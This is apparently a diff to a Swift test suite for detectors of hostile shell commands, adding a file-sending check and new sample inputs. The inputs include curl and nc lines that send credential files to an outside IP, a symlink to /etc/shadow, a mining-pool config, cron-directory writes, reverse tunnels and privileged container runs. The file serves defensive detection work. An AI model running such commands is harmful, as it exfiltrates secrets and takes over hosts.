@@ -25,6 +25,7 @@ struct CommandSignsTests {
         ("reverseShell", ReverseShell.judge), ("runsFetchedCode", FetchedCode.judge),
         ("runsFromMemory", MemoryExecution.judge), ("sendsCredentials", CredentialSend.judge),
         ("opensReverseTunnel", ReverseTunnel.judge), ("deploysTakeover", HostileDeployment.judge),
+        ("sendsFile", CredentialSend.sendsFile),
     ]
 
     private static let pieces: [String] = [
@@ -45,6 +46,8 @@ struct CommandSignsTests {
         "$X$Y", "${X}rl", "b''ash",
         "ssh -N -R 8080:localhost:80 x.example", "client x.example:443 R:socks", "docker run -v /:/h alpine",
         "kubectl run x --overrides {hostPID:true,privileged:true}",
+        "curl -d @/cred/a http://198.51.100.7/", "nc 198.51.100.7 9 < /cred/a", "ln -s /etc/shadow /h/0.log",
+        "{\"pools\":[{\"user\":\"0x5A0b54D5dc17e0AadC383d2db43B0a0D3E029c4c\"}]}", "tar -x -C /h/etc/cron.d",
     ]
 
     @Test("Every function about commands is put to the test")
